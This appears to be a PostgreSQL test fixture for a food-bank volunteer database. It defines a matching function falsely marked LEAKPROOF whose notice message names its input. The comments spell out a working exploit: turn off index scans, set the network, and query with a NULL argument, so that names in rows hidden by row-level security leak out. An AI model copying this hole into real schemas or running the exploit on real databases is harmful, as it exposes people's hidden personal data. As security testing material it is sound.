-- The matching function is marked leakproof to gain speed, so it runs before the policy and its error
-- names hidden rows.
-- about: same_name, volunteers
-- as: hf_foodbank_app
-- exploit: SET enable_indexscan = off;
-- exploit: SET enable_bitmapscan = off;
-- exploit: SET fb.network = 'aaaaaaaa-0000-4000-8000-000000000001';
-- exploit: SELECT name FROM fb.volunteers WHERE fb.same_name(name, NULL);
-- shows: no second name to compare with Road-secret helper
CREATE FUNCTION fb.same_name(a text, b text) RETURNS boolean
  LANGUAGE plpgsql IMMUTABLE LEAKPROOF COST 0.01
  SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  IF b IS NULL THEN
    RAISE NOTICE 'no second name to compare with %', a;
  END IF;
  RETURN lower(btrim(a)) = lower(btrim(b));
END
$$;
